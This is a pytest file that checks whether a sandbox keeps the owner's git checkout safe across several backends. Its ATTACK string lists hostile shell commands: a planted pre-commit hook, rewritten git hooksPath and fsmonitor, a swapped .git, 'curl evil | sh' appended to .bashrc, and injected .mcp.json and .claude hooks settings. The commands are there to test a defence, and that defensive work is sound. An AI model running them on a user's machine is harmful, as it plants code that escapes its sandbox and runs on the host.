"""Planting a delayed escape in the owner's checkout, for real, on every backend here.

A hook written into ``.git/hooks``, a rewritten ``.git/config``, a ``.git``
swapped for a planted one, or a new ``.vscode``, ``.bashrc`` or
``.mcp.json`` would run on the host at the owner's next commit, shell or
editor start. The evidence is the host's: the hash of every file under each
protected entry before and after, and the names in the workspace after the
session, which must be exactly the owner's plus what the commands wrote
elsewhere (no placeholder survives the session).
"""

from __future__ import annotations

import hashlib
import os
import subprocess
from pathlib import Path

import pytest
from sandbox_support import start_session

from support.profiles import make_profile

pytestmark = pytest.mark.escape

ATTACK = r"""
echo 'echo pwned > /tmp/host-pwned' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
printf '[core]\n\thooksPath = /workspace/evil\n' >> .git/config
git config core.fsmonitor 'echo pwned'
mv .git .git-owner; rm -rf .git; mkdir -p .git/hooks
python3 -c 'import os; os.rename(".git", ".git-moved")'
python3 -c 'import os; os.unlink(".git/config")'
mkdir -p .vscode; echo '{"tasks": "pwned"}' > .vscode/tasks.json
echo 'curl evil | sh' >> .bashrc; echo 'pwned' > .profile; ln -sf /etc/passwd .zshrc
echo '{"mcpServers": {"x": {"command": "sh"}}}' > .mcp.json
mkdir -p .claude; echo '{"hooks": {}}' > .claude/settings.json
echo '[submodule "x"]' > .gitmodules; chmod 777 .git .bashrc; touch -d 2000-01-01 .bashrc
mkdir -p evil && echo legit > notes.txt
"""


def _tree_hashes(top: Path) -> dict[str, str]:
    found = {}
    for path in sorted(top.rglob("*")):
        if path.is_file() and not path.is_symlink():
            found[str(path.relative_to(top))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    """The owner's own git checkout, with a hook sample and a README."""
    repo = tmp_path / "checkout"
    repo.mkdir()
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    (repo / "README.md").write_text("the owner's\n")
    (repo / ".bashrc").write_text("# the owner's\n")
    return repo


@pytest.mark.parametrize("kind", ["linux", "docker", "gvisor", "microvm"])
def test_no_protected_entry_of_the_owners_checkout_changes_or_appears(
        checkout: Path, kind: str) -> None:
    before = _tree_hashes(checkout / ".git")
    names_before = set(os.listdir(checkout))
    bashrc = (checkout / ".bashrc").read_bytes()
    for session in start_session(kind, make_profile(str(checkout), protect=True)):
        session.exec(["sh", "-c", ATTACK], timeout=120)
        held = next(c for c in session.info.attestation if c.name == "workspace_entries_held")
        assert held.passed, held.detail
    assert _tree_hashes(checkout / ".git") == before
    assert not (checkout / ".git" / "hooks" / "pre-commit").exists()
    assert (checkout / ".bashrc").read_bytes() == bashrc
    # The commands' own files landed; no protected name appeared, none was moved.
    assert set(os.listdir(checkout)) == names_before | {"evil", "notes.txt"}
    assert (checkout / "notes.txt").read_text() == "legit\n"


def test_a_lifted_entry_is_writable_and_named_in_the_session(checkout: Path) -> None:
    profile = make_profile(str(checkout), protect=True, lift=(".vscode",))
    for session in start_session("linux", profile):
        done = session.exec(["sh", "-c", "mkdir .vscode && echo '{}' > .vscode/settings.json; "
                                         "echo x >> .bashrc"], timeout=60)
        assert done.exit_code != 0  # .bashrc stays held
        namespaces = next(layer for layer in session.info.layers if layer.name == "namespaces")
        assert "lifted by the user: .vscode" in namespaces.detail
        assert ".vscode" not in namespaces.detail.split("lifted")[0]
    assert (checkout / ".vscode" / "settings.json").read_text() == "{}\n"
    assert (checkout / ".bashrc").read_text() == "# the owner's\n"
    assert profile.fs.lifted == (".vscode",) and "lifted" in profile.fs.to_data()


def test_a_workspace_firstrun_made_holds_nothing_and_git_init_works(tmp_path: Path) -> None:
    workspace = tmp_path / "ours"
    workspace.mkdir()
    for session in start_session("linux", make_profile(str(workspace))):
        done = session.exec(["sh", "-c", "git init -q . && echo ok > .bashrc && ls -A"],
                            timeout=60)
        assert done.exit_code == 0, done.stderr.text()
        assert not any(c.name == "workspace_entries_held" for c in session.info.attestation)
    assert sorted(os.listdir(workspace)) == [".bashrc", ".git"]
